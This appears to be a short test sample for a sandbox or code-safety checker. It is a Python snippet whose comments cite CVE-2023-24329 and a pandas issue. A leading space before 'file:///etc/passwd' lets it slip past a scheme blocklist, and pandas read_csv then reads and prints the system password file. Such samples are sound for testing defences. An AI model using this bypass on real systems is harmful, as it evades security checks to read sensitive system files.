# source: CVE-2023-24329 (urllib.parse strips leading C0/space; bypasses scheme blocklists) + pandas-dev/pandas#970 (readers accept file:// URLs)
# family: URL with leading whitespace/control char: check treats literal as relative path, pandas is_url() sees file:// (f-string with constant)
# goal: read /etc/passwd
import pandas as pd
name = "passwd"
print(pd.read_csv(f" file:///etc/{name}", header=None, sep="\t").to_string())
